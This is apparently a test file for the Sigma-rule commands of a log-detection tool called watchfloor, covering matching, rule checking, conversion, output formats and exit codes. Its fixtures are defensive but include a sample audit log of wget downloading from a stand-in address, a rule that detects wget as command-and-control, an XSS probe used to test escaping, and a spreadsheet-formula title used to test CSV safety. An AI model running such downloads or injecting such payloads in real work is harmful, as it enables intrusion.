/** `watchfloor sigma`: what is printed, and the exit codes that scripts go by. */
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ndjson, processEvent } from '../support/events.ts';
import { evtxFile, sid } from '../support/evtx.ts';
import {
  type CommandResult,
  jsonLines,
  runWatchfloor,
  startWatchfloor,
  temporaryData,
} from '../support/service.ts';
import { zip } from '../support/zip.ts';

let files: Awaited<ReturnType<typeof temporaryData>>;
const at = (name: string): string => join(files.dir, name);

const rule = `title: =Tool
id: tool-1
name: tool
author: Jane Doe
level: high
tags: [attack.t1059.001]
logsource: {product: windows, category: process_creation}
detection:
  selection: {Image|endswith: '\\tool.exe'}
  condition: selection
`;
const burst = `title: Tool thrice
id: burst-1
level: critical
correlation:
  type: event_count
  rules: [tool]
  group-by: [User]
  timespan: 1h
  condition: {gte: 3}
`;
const filter = `title: not on WS-9
logsource: {product: windows}
filter:
  rules: any
  host: {Computer: WS-9}
  condition: not host
`;
const tool = (n: number, host: string) => processEvent(n, { Computer: host, Image: 'C:\\tool.exe' });

beforeAll(async () => {
  files = await temporaryData('sigma-files');
  await mkdir(at('logs/more'), { recursive: true });
  await writeFile(at('rule.yml'), rule);
  await writeFile(at('all.yml'), [rule, burst, filter].join('---\n'));
  await writeFile(at('bad.yml'), rule.replace('endswith', 'endwith'));
  await writeFile(at('logs/a.ndjson'), ndjson([tool(1, 'WS-1'), processEvent(2), tool(3, 'WS-2')]));
  await writeFile(at('logs/more/b.ndjson.gz'), gzipSync(ndjson([tool(4, 'WS-9'), tool(5, 'WS-1')])));
});
afterAll(() => files?.remove());

/** Ends it by a signal once it has written the first match of what comes in for ever. */
async function interrupted(args: readonly string[]): Promise<CommandResult> {
  const { child, done } = startWatchfloor(args, { input: null });
  const feed = Readable.from(
    (function* () {
      for (let n = 0; ; n += 1) yield ndjson([tool(n, 'WS-1')]);
    })(),
  );
  if (child.stdin !== null) feed.pipe(child.stdin);
  child.stdout?.once('data', () => child.kill('SIGINT'));
  const result = await done;
  feed.destroy();
  return result;
}

describe('sigma match', () => {
  it('goes over several files, and lets filters and correlations take part', async () => {
    const { code, stdout, stderr } = await runWatchfloor([
      'sigma',
      'match',
      '--rules',
      at('all.yml'),
      '--events',
      `${files.dir}/logs/**/*.ndjson*`,
      '--json',
    ]);
    expect(code).toBe(0);
    expect(jsonLines(stdout)).toEqual([
      { rule_id: 'burst-1', event_index: 1, file: at('logs/more/b.ndjson.gz') },
    ]);
    const summary = JSON.parse(stderr.trim().split('\n').at(-1) ?? '') as Record<string, unknown>;
    expect(summary).toMatchObject({
      eventFiles: 2,
      events: 5,
      matches: 1,
      triage: { levels: [{ name: 'critical', matches: 1 }], hosts: [{ name: 'ws-1', matches: 1 }] },
    });
  });

  it('writes a table with a summary, and CSV that no spreadsheet runs', async () => {
    const args = ['sigma', 'match', '--rules', at('rule.yml'), '--events', at('logs/a.ndjson'), '--format'];
    const { stdout: text } = await runWatchfloor([...args, 'table']);
    expect(text).toMatch(/high +=Tool +Jane Doe +WS-1/);
    expect(text).toMatch(/TECHNIQUES\n\(none named\) +2 +1 +high +T1059\.001 \(2\)/);
    const { stdout: csv, code } = await runWatchfloor([...args, 'csv', '--fail-on', 'high']);
    const [head, first] = csv.split('\r\n');
    expect(head).toBe('time,level,rule_id,title,author,host,user,file,event_index');
    expect(first).toContain(',high,tool-1,"\'=Tool",Jane Doe,WS-1,');
    expect(code).toBe(1);
    expect((await runWatchfloor([...args, 'json', '--fail-on', 'critical'])).code).toBe(0);
  });

  it('writes a report in which nothing of a rule or an event is markup', async () => {
    await writeFile(at('markup.yml'), rule.replace('=Tool', '<script>alert(1)</script>'));
    const args = [
      'sigma',
      'match',
      '--rules',
      at('markup.yml'),
      '--events',
      at('logs/a.ndjson'),
      '--report',
      at('r.html'),
    ];
    expect((await runWatchfloor(args)).code).toBe(0);
    const html = await readFile(at('r.html'), 'utf8');
    expect(html).not.toContain('<script');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('<td>WS-2</td>');
  });

  it('reads an archive as an import reads it, and tells its matches in the order of time', async () => {
    const audit = (n: number, seconds: number) =>
      [
        `type=SYSCALL msg=audit(${seconds}.000:${n}): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 auid=1000 uid=0 tty=pts0 comm="wget" exe="/usr/bin/wget" key=(null)`,
        `type=EXECVE msg=audit(${seconds}.000:${n}): argc=2 a0="wget" a1="http://192.0.2.5/x"`,
        `type=EOE msg=audit(${seconds}.000:${n}): `,
      ].join('\n');
    const evtx = (id: number, ticks: bigint) => ({
      id: BigInt(id),
      time: 134_169_129_301_234_567n + ticks,
      provider: 'Microsoft-Windows-Sysmon',
      eventId: 1,
      channel: 'Microsoft-Windows-Sysmon/Operational',
      computer: 'WS-7',
      userSid: sid(18),
      data: [['Image', id === 2 ? 'C:\\other.exe' : 'C:\\tool.exe']] as const,
    });
    await writeFile(
      at('collection.zip'),
      zip([
        {
          name: 'C/Sysmon.evtx',
          content: evtxFile([evtx(1, 0n), evtx(2, 10_000_000n), evtx(3, 20_000_000n)]),
        },
        { name: 'web/audit.log', content: Buffer.from(`${audit(1, 1_772_439_331)}\n`) },
        { name: 'web/audit.log.1.gz', content: gzipSync(`${audit(2, 1_600_000_000)}\n`) },
        { name: 'broken.evtx', content: evtxFile([evtx(1, 0n)]).subarray(0, 30_000) },
      ]),
    );
    await writeFile(
      at('both.yml'),
      `${rule}---\ntitle: Wget\nid: wget-1\nlevel: low\ntags: [attack.command-and-control, attack.t1105]\nlogsource: {product: linux, service: auditd}\ndetection: {s: {type: EXECVE, a0: wget}, condition: s}\n`,
    );
    const args = ['sigma', 'match', '--rules', at('both.yml'), '--events', at('collection.zip')];
    const { code, stderr } = await runWatchfloor([...args, '--format', 'timeline', '-o', at('t.csv')]);
    expect(code).toBe(1);
    expect(stderr).toMatch(/collection\.zip\/broken\.evtx: not read to its end: damaged: chunk 1 of 1/);
    const rows = (await readFile(at('t.csv'), 'utf8')).split('\r\n').map((row) => row.split(','));
    expect(rows.map((row) => row.slice(0, 4))).toEqual([
      ['time', 'level', 'title', 'host'],
      ['2020-09-13T12:26:40.000Z', 'low', 'Wget', ''],
      ['2026-03-02T08:15:30.123Z', 'high', '"\'=Tool"', 'WS-7'],
      ['2026-03-02T08:15:30.123Z', 'high', '"\'=Tool"', 'WS-7'],
      ['2026-03-02T08:15:31.000Z', 'low', 'Wget', ''],
      ['2026-03-02T08:15:32.123Z', 'high', '"\'=Tool"', 'WS-7'],
      [''],
    ]);
    expect(rows[2]?.slice(5)).toEqual([
      'Microsoft-Windows-Sysmon/Operational',
      '1',
      '1',
      'Image: C:\\tool.exe',
      '',
      'T1059.001',
      'tool-1',
      'Jane Doe',
      at('collection.zip/C/Sysmon.evtx'),
      '0',
    ]);
    const { stdout } = await runWatchfloor([
      ...args,
      '--format',
      'ndjson',
      '--min-level',
      'high',
      '--to',
      '2026-03-02T08:15:31Z',
    ]);
    expect(jsonLines(stdout)).toMatchObject([
      {
        rule_id: 'tool-1',
        record_id: '1',
        details: [{ field: 'Image', value: 'C:\\tool.exe' }],
        event_index: 0,
      },
      { rule_id: 'tool-1', file: at('collection.zip/broken.evtx') },
    ]);
  });

  it('tells what it found until Ctrl-C as partial, with exit code 130', async () => {
    const { code, stdout, stderr } = await interrupted([
      'sigma',
      'match',
      '--rules',
      at('rule.yml'),
      '--events',
      '-',
      '--format',
      'csv',
    ]);
    expect(code).toBe(130);
    expect(stdout).toContain(',high,tool-1,');
    expect(stderr).toContain('interrupted: this is the result up to here, not of all files');
  });

  it('says which pattern names no file', async () => {
    const { code, stderr } = await runWatchfloor([
      'sigma',
      'match',
      '--rules',
      at('rule.yml'),
      '--events',
      at('*.evtx'),
    ]);
    expect(code).toBe(1);
    expect(stderr).toContain('no file of events there');
  });
});

describe('sigma check', () => {
  it('fails with file, line, reason and hint', async () => {
    const { code, stdout, stderr } = await runWatchfloor(['sigma', 'check', at('bad.yml')]);
    expect(code).toBe(1);
    expect(stderr).toContain('bad.yml:9: the modifier endwith does not exist');
    expect(stderr).toContain('hint: did you mean endswith?');
    expect(stdout).toContain('1 refused');
    const { stdout: json } = await runWatchfloor(['sigma', 'check', '--json', at('bad.yml'), at('all.yml')]);
    expect(jsonLines(json)).toMatchObject([
      { finding: 'refused', line: 9 },
      { files: 2, detection: 1, correlation: 1, filter: 1, refused: 1, warnings: 0 },
    ]);
  });

  it('takes warnings for failures when it is told to', async () => {
    await writeFile(at('filter.yml'), filter.replace('not host', 'host'));
    const args = ['sigma', 'check', at('rule.yml'), at('filter.yml')];
    expect((await runWatchfloor(args)).code).toBe(0);
    expect((await runWatchfloor([...args, '--strict'])).code).toBe(1);
    expect((await runWatchfloor([...args, '--strict', '--filters', 'exclude'])).code).toBe(0);
  });
});

describe('sigma explain, convert, stats', () => {
  it('explains a line of a file as a tree; the exit code says whether it matches', async () => {
    const args = ['sigma', 'explain', '--rule', at('all.yml'), '--event', at('logs/a.ndjson'), '--line'];
    const { code, stdout } = await runWatchfloor([...args, '1']);
    expect(code).toBe(0);
    expect(stdout).toContain('MATCH  =Tool (tool-1)');
    expect(stdout).toContain('✓ Image|endswith  = C:\\tool.exe');
    const miss = await runWatchfloor([...args, '2', '--json']);
    expect(miss.code).toBe(1);
    expect(jsonLines(miss.stdout)).toMatchObject([
      { rule_id: 'tool-1', matches: false, logsource: { outcome: true } },
    ]);
    expect((await runWatchfloor([...args, '9'])).stderr).toContain('no record in line 9');
  });

  it('converts with parameters, never with text of the rule in the statement', async () => {
    const { code, stdout } = await runWatchfloor(['sigma', 'convert', '--json', at('rule.yml')]);
    expect(code).toBe(0);
    const [{ where, certain, exact_for, params } = {}] = jsonLines(stdout);
    expect(where).not.toContain('tool');
    expect(certain).not.toContain('tool');
    expect(Object.values(params as Record<string, string[]>).flat()).toContain('tool.exe');
    expect(exact_for).toEqual(['windows-json', 'windows-xml']);
  });

  it('counts', async () => {
    const { stdout } = await runWatchfloor(['sigma', 'stats', '--json', at('all.yml')]);
    expect(jsonLines(stdout)).toMatchObject([
      {
        kind: { detection: 1, correlation: 1, filter: 1 },
        level: { high: 1 },
        technique: { 'attack.t1059.001': 1 },
      },
    ]);
  });
});
